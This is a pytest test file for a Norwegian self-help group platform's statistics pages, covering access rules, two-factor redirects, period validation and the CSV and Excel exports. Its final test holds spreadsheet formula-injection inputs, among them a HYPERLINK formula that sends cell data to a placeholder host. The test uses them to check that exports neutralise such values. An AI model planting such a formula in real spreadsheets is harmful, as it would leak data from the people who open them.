"""The statistics pages: who may see them, the period, and downloads with the page's numbers."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from openpyxl import load_workbook

from selvhjelp.interest.models import InterestTally
from selvhjelp.statistics.models import GroupRecord
from tests.conftest import municipality, theme, with_mfa
from tests.queries import assert_queries_do_not_grow

pytestmark = pytest.mark.django_db

PERIOD_2025 = "?periode=egen&fra=2025-01-01&til=2025-12-31"


@pytest.fixture
def paths(contact_point) -> dict[str, str]:
    slug = contact_point.slug
    return {
        "page": f"/kontaktpunkt/{slug}/statistikk/",
        "csv": f"/kontaktpunkt/{slug}/statistikk.csv",
        "xlsx": f"/kontaktpunkt/{slug}/statistikk.xlsx",
        "all": "/statistikk/",
        "all_csv": "/statistikk.csv",
        "all_xlsx": "/statistikk.xlsx",
    }


@pytest.mark.parametrize(
    ("who", "page", "status"),
    [
        ("outsider", "page", 404),
        ("outsider", "csv", 404),
        ("other_coordinator", "page", 404),
        ("other_coordinator", "csv", 404),
        ("other_coordinator", "xlsx", 404),
        ("initiator", "page", 403),
        ("initiator", "xlsx", 403),
        ("coordinator", "page", 200),
        ("coordinator", "csv", 200),
        ("coordinator", "xlsx", 200),
        ("coordinator", "all", 403),
        ("coordinator", "all_csv", 403),
        ("outsider", "all_xlsx", 403),
        ("admin_user", "all", 200),
        ("admin_user", "all_csv", 200),
        ("admin_user", "all_xlsx", 200),
        ("admin_user", "page", 404),
    ],
)
def test_who_may_see_the_statistics(request, client_for, paths, who, page, status) -> None:
    person = with_mfa(request.getfixturevalue(who))
    assert client_for(person).get(paths[page]).status_code == status


def test_an_administrator_without_a_second_factor_in_the_session_is_sent_to_give_one(
    admin_user, paths
) -> None:
    from tests.conftest import signed_in

    response = signed_in(admin_user, second_factor=False).get(paths["all"])
    assert response.status_code == 302
    assert response["Location"].startswith("/konto/2fa/reauthenticate/?next=")


def test_coordinators_without_two_factor_are_sent_to_turn_it_on(
    coordinator_without_mfa, client_for, paths
) -> None:
    response = client_for(coordinator_without_mfa).get(paths["page"])
    assert response["Location"].startswith("/konto/2fa/?next=")


@pytest.mark.parametrize(
    ("query", "message"),
    [
        ("?periode=egen&fra=2025-03-01", "Give the last day of the period."),
        ("?periode=egen&fra=2025-03-01&til=2025-02-01", "The last day must be on or after"),
        ("?periode=egen&fra=1850-01-01&til=2025-02-01", "Choose days between 2000"),
        ("?periode=egen&fra=31.02.2025&til=2025-04-01", "Enter a valid date."),
        ("?periode=neste-tiaar", "Select a valid choice."),
    ],
)
def test_a_bad_period_gets_a_clear_message_not_figures(
    coordinator, client_for, paths, query, message
) -> None:
    coordinator.language = "en"
    coordinator.save()
    response = client_for(with_mfa(coordinator)).get("/en" + paths["page"] + query)
    assert response.status_code == 400
    assert message in response.content.decode()
    assert response.context["report"] is None
    assert client_for(coordinator).get(paths["csv"] + query).status_code == 400


@pytest.fixture
def three_groups(contact_point, make_record) -> list[GroupRecord]:
    return [
        make_record(
            contact_point,
            started=date(2025, month, 1),
            handed_over_on=date(2025, month, 20),
            members_at_start=6,
            meetings_held=10,
            themes=(slug,),
        )
        for month, slug in ((2, "sorg"), (3, "sorg"), (4, "angst"))
    ]


def test_the_page_shows_the_period_the_charts_and_their_tables(
    three_groups, contact_point, coordinator, client_for, paths
) -> None:
    InterestTally.objects.create(
        contact_point=contact_point,
        municipality=municipality("0301"),
        theme=theme("sorg"),
        month=date(2025, 5, 1),
        people=4,
    )
    response = client_for(with_mfa(coordinator)).get(paths["page"] + PERIOD_2025)
    html = response.content.decode()
    assert response.status_code == 200
    assert response.context["report"].groups_started == 3
    # Three charts, each named and described by the text beside it, with its table below.
    assert html.count('role="img"') == 3
    assert 'aria-labelledby="lasting-chart-title lasting-chart-summary"' in html
    assert 'id="lasting-chart-summary"' in html
    assert 'data-table="lasting"' in html
    assert "færre enn 3" in html  # bokmål, and one theme has a single group


def _page_figures(client, path) -> list[tuple[str, str, str]]:
    report = client.get(path).context["report"]
    figures = []
    for table in report.tables:
        rows = list(table.rows) + ([("Totalt", table.total)] if table.total else [])
        figures += [(table.title, label, figure.text) for label, figure in rows]
    return figures


def test_the_csv_holds_the_period_the_rule_and_the_numbers_of_the_page(
    three_groups, coordinator, client_for, paths
) -> None:
    client = client_for(with_mfa(coordinator))
    response = client.get(paths["csv"] + PERIOD_2025)
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    about = {row[1]: row[2] for row in rows if row[0] == ""}
    assert about["Første dag"] == "2025-01-01"
    assert about["Siste dag"] == "2025-12-31"
    assert "færre enn 3" in about["Små tall"]
    figures = [tuple(row) for row in rows[len(about) + 1 :]]
    assert figures == _page_figures(client, paths["page"] + PERIOD_2025)


def test_the_workbook_has_the_rule_first_and_a_sheet_per_table_with_the_page_numbers(
    three_groups, coordinator, client_for, paths
) -> None:
    client = client_for(with_mfa(coordinator))
    response = client.get(paths["xlsx"] + PERIOD_2025)
    book = load_workbook(io.BytesIO(response.content))
    first = book.worksheets[0]
    about = {row[0]: row[1] for row in first.iter_rows(values_only=True)}
    assert about["Første dag"] == "2025-01-01"
    assert "færre enn 3" in about["Små tall"]
    report = client.get(paths["page"] + PERIOD_2025).context["report"]
    assert len(book.worksheets) == 1 + len(report.tables)
    for sheet, table in zip(book.worksheets[1:], report.tables, strict=True):
        rows = list(sheet.iter_rows(values_only=True))
        assert rows[0] == (table.title, None)
        lines = list(table.rows) + ([("Totalt", table.total)] if table.total else [])
        assert rows[2:] == [
            (label, figure.number if figure.number is not None else figure.text)
            for label, figure in lines
        ]
    keys = [table.key for table in report.tables]
    reach = dict(book.worksheets[1 + keys.index("reach")].iter_rows(min_row=3, values_only=True))
    assert reach["Møter holdt"] == 30


def test_the_page_runs_the_same_queries_with_ten_times_the_groups(
    three_groups, contact_point, coordinator, client_for, paths, make_record
) -> None:
    def thirty_more() -> None:
        for day in range(1, 31):
            make_record(
                contact_point,
                started=date(2025, 6, day),
                themes=("sorg", "angst"),
                place="0301" if day % 2 else "3201",
                handed_over_on=date(2025, 7, 1),
                ended_on=date(2025, 11, day) if day % 3 else None,
            )

    response = assert_queries_do_not_grow(
        client_for(with_mfa(coordinator)), paths["page"] + PERIOD_2025, thirty_more, at_most=14
    )
    assert response.context["report"].groups_started == 33


@pytest.mark.parametrize(
    "text", ['=HYPERLINK("http://x.example/?"&A1,"Klikk")', "+1", "-2", "@SUM(A1)"]
)
def test_a_text_that_begins_as_a_formula_is_written_as_text_in_both_downloads(text: str) -> None:
    """Theme names come from people (a coordinator suggests one, in three languages)."""
    from selvhjelp.statistics.downloads import as_text

    out = io.StringIO()
    csv.writer(out).writerow([as_text(text), as_text("Sorg og tap"), as_text(3)])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["'" + text, "Sorg og tap", "3"]

    from openpyxl import Workbook

    from selvhjelp.statistics.downloads import _append_text

    book = Workbook()
    _append_text(book.active, [text, 3])
    saved = io.BytesIO()
    book.save(saved)
    cell, number = load_workbook(saved).active[1]
    assert (cell.data_type, cell.value) == ("s", text)
    assert number.value == 3
